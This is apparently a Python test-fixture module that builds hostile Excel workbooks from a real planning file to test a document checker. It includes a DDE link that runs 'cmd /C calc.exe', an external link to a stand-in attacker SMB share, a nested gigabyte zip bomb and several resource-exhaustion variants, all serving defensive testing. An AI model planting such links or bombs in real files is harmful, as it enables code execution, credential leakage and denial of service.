"""A real plan in which one thing is made hostile, so that all that lies behind the reading meets it too.

What is repeated is never quite the same twice: a part that repeats itself is refused as a bomb before anything is read.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

from ktt_check.resources import workbooks_folder

from .making import OFFICE, relationships, with_repeated, zipped

PLAN = workbooks_folder() / "plans" / "cam-ranh-2023.xlsx"
TASKS = "xl/worksheets/sheet4.xml"  # the sheet Nhiệm vụ
TARGETS = "xl/worksheets/sheet3.xml"  # the sheet Chỉ tiêu
_VML = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:x="urn:schemas-microsoft-com:office:excel">{}</xml>'
)
_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml."
Parts = dict[str, bytes]


def plan_parts(source: Path = PLAN) -> Parts:
    """The parts of the shipped plan."""
    with zipfile.ZipFile(source) as package:
        return {name: package.read(name) for name in package.namelist()}


def plan(*changes: Callable[[Parts], None]) -> bytes:
    """The plan with something done to its parts."""
    parts = plan_parts()
    for change in changes:
        change(parts)
    return zipped(parts)


def before(part: str, mark: str, addition: str) -> Callable[[Parts], None]:
    """Puts text before the last occurrence of another in a part."""

    def change(parts: Parts) -> None:
        head, found, tail = parts[part].rpartition(mark.encode())
        assert found, (part, mark)
        parts[part] = head + addition.encode() + found + tail

    return change


def after_cells(addition: str) -> Callable[[Parts], None]:
    """Puts elements behind the cells of the tasks."""
    return before(TASKS, "<pageMargins", addition)


def rows(addition: Iterable[str]) -> Callable[[Parts], None]:
    """Puts rows behind the last one of the tasks."""
    return before(TASKS, "</sheetData>", "".join(addition))


def merges(ranges: Iterable[str]) -> Callable[[Parts], None]:
    written = "".join(f'<mergeCell ref="{one}"/>' for one in ranges)
    return before(TASKS, "<pageMargins", f"<mergeCells>{written}</mergeCells>")


def styles(number: int) -> Callable[[Parts], None]:
    """So many cell formats more, as in files that were pasted together for years."""
    formats = "".join(
        f'<xf numFmtId="{at % 49}" fontId="0" fillId="0" borderId="0" xfId="0"><alignment indent="{at}"/></xf>'
        for at in range(number)
    )
    return before("xl/styles.xml", "</cellXfs>", formats)


def names(number: int) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        written = "".join(f'<definedName name="n{at}">{at * at}</definedName>' for at in range(number))
        text = parts["xl/workbook.xml"].decode()
        if "</definedNames>" in text:
            text = text.replace("</definedNames>", f"{written}</definedNames>", 1)
        else:
            text = text.replace("</sheets>", f"</sheets><definedNames>{written}</definedNames>", 1)
        parts["xl/workbook.xml"] = text.encode()

    return change


def sheets(number: int) -> Callable[[Parts], None]:
    """So many empty sheets more."""

    def change(parts: Parts) -> None:
        listed = related = typed = ""
        for at in range(number):
            parts[f"xl/worksheets/x{at}.xml"] = (
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
            )
            listed += f'<sheet name="x{at}" sheetId="{1000 + at}" r:id="x{at}"/>'
            related += f'<Relationship Id="x{at}" Type="{OFFICE}/worksheet" Target="worksheets/x{at}.xml"/>'
            typed += f'<Override PartName="/xl/worksheets/x{at}.xml" ContentType="{_TYPES}worksheet+xml"/>'
        before("xl/workbook.xml", "</sheets>", listed)(parts)
        before("xl/_rels/workbook.xml.rels", "</Relationships>", related)(parts)
        before("[Content_Types].xml", "</Types>", typed)(parts)

    return change


def notes(number: int, drawing: str | None = None) -> Callable[[Parts], None]:
    """So many comments beside the tasks, with their boxes, or with another drawing."""

    def change(parts: Parts) -> None:
        text = "".join(
            f'<comment ref="Z{at}" authorId="0"><text><r><rPr><b/></rPr><t>{at * at}</t></r></text></comment>'
            for at in range(1, number + 1)
        )
        boxes = "".join(
            f'<v:shape id="_x0000_s{at}" type="#_x0000_t202"><x:ClientData ObjectType="Note"><x:Row>{at - 1}</x:Row>'
            "<x:Column>25</x:Column></x:ClientData></v:shape>"
            for at in range(1, number + 1)
        )
        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        authors = "<authors><author>a</author></authors>"
        parts["xl/comments1.xml"] = (
            f'<comments xmlns="{main}">{authors}<commentList>{text}</commentList></comments>'
        ).encode()
        parts["xl/drawings/vmlDrawing1.vml"] = _VML.format(boxes if drawing is None else drawing).encode()
        parts["xl/worksheets/_rels/sheet4.xml.rels"] = relationships(
            ("comments", "../comments1.xml"), ("vmlDrawing", "../drawings/vmlDrawing1.vml")
        ).encode()
        before(TASKS, "</worksheet>", f'<legacyDrawing xmlns:r="{OFFICE}" r:id="rId2"/>')(parts)
        typed = (
            '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
            f'<Override PartName="/xl/comments1.xml" ContentType="{_TYPES}comments+xml"/>'
        )
        before("[Content_Types].xml", "</Types>", typed)(parts)

    return change


def formats_of_rules(number: int) -> Callable[[Parts], None]:
    """So many conditional formats."""
    written = "".join(
        f'<conditionalFormatting sqref="A{at}"><cfRule type="expression" priority="{at}"><formula>{at * at}</formula>'
        "</cfRule></conditionalFormatting>"
        for at in range(1, number + 1)
    )
    return after_cells(written)


def shared_changes(parts: Parts) -> None:
    """A mark that the workbook records changes: it is not edited in place but copied."""
    parts["xl/revisions/revisionHeaders.xml"] = b"<headers/>"


def in_utf16(parts: Parts) -> None:
    """The sheets in another encoding than Office writes."""
    for name in (TARGETS, TASKS):
        text = parts[name].decode()
        parts[name] = re.sub(r'encoding="[^"]*"', 'encoding="UTF-16"', text).encode("utf-16")


def external_links(parts: Parts) -> None:
    """A link to another file and one to another program (DDE), and a formula that uses it."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/C calc.exe"><ddeItems>'
        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    parts["xl/externalLinks/externalLink2.xml"] = (
        f'<externalLink xmlns="{main}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'
    ).encode()
    parts["xl/externalLinks/_rels/externalLink2.xml.rels"] = (
        relationships(("externalLinkPath", "file:///\\\\attacker\\share\\x.xlsx"))
        .replace("/></Rel", ' TargetMode="External"/></Rel')
        .encode()
    )
    before(
        "xl/_rels/workbook.xml.rels",
        "</Relationships>",
        f'<Relationship Id="e1" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="e2" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink2.xml"/>',
    )(parts)
    text = parts["xl/workbook.xml"].decode()
    links = '<externalReferences><externalReference r:id="e1"/><externalReference r:id="e2"/></externalReferences>'
    parts["xl/workbook.xml"] = text.replace("</sheets>", f"</sheets>{links}", 1).encode()
    rows(['<row r="900"><c r="Z900"><f>[1]!A0</f><v>1</v></c><c r="AA900"><f>\'[2]S\'!A1</f><v>2</v></c></row>'])(parts)


def lying_extent(parts: Parts) -> None:
    parts[TASKS] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="XFD1048576:A1"', parts[TASKS])


def cyclic(parts: Parts) -> None:
    """Relationships of everything to everything, itself included."""
    parts["xl/worksheets/_rels/sheet4.xml.rels"] = relationships(
        ("worksheet", "sheet4.xml"), ("worksheet", "sheet3.xml"), ("officeDocument", "../workbook.xml")
    ).encode()
    parts["xl/worksheets/_rels/sheet3.xml.rels"] = relationships(
        ("worksheet", "sheet4.xml"), ("drawing", "_rels/sheet3.xml.rels")
    ).encode()
    parts["xl/_rels/_rels/workbook.xml.rels.rels"] = relationships(("worksheet", "workbook.xml.rels")).encode()
    again = f'<Relationship Id="w9" Type="{OFFICE}/officeDocument" Target="workbook.xml"/>'
    before("xl/_rels/workbook.xml.rels", "</Relationships>", again)(parts)


def nested_bomb(parts: Parts) -> None:
    """An embedded archive that would inflate to a gigabyte, and holds another."""
    bomb = with_repeated("", " ", 1 << 30, "")
    parts["xl/embeddings/oleObject1.bin"] = zipped({"a.zip": bomb, "b.zip": zipped({"c.zip": bomb})})
    typed = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    before("[Content_Types].xml", "</Types>", typed)(parts)


def _deep(levels: int) -> str:
    return "<v:group>" * levels + "</v:group>" * levels


def _long_rows(number: int) -> Iterable[str]:
    for row in range(500, 500 + number):
        yield f'<row r="{row}"><c r="XFD{row * 20}"><v>{row}</v></c></row>'


# Files that are read and checked like the plan itself, and whether they can be edited in place.
READ: dict[str, tuple[Callable[[], bytes], bool]] = {
    "a far corner": (lambda: plan(rows(['<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'])), True),
    "a far corner, copied": (
        lambda: plan(rows(['<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']), shared_changes),
        False,
    ),
    "25,000 cells in the last column, copied": (lambda: plan(rows(_long_rows(25_000)), shared_changes), False),
    "a merge of the whole sheet": (lambda: plan(merges(["A1:XFD1048576"])), True),
    "30,000 merges": (lambda: plan(merges(f"Z{row}:AC{row}" for row in range(500, 30_500))), True),
    "30,000 merges, copied": (
        lambda: plan(merges(f"Z{row}:AC{row}" for row in range(500, 30_500)), shared_changes),
        False,
    ),
    "100,000 styles": (lambda: plan(styles(100_000)), True),
    "45,000 names": (lambda: plan(names(45_000)), True),
    "250 sheets": (lambda: plan(sheets(250)), True),
    "10,000 comments": (lambda: plan(notes(10_000)), True),
    "60,000 comments": (lambda: plan(notes(60_000)), False),
    "a drawing 100,000 levels deep": (lambda: plan(notes(1, _deep(100_000))), False),
    "60,000 conditional formats": (lambda: plan(formats_of_rules(60_000)), True),
    "links to a program and to another file": (lambda: plan(external_links), True),
    "a bomb within an archive within the workbook": (lambda: plan(nested_bomb), True),
    "relationships in circles": (lambda: plan(cyclic), True),
    "sheets in UTF-16": (lambda: plan(in_utf16), False),
    "an extent that lies": (lambda: plan(lying_extent), True),
}  # fmt: skip
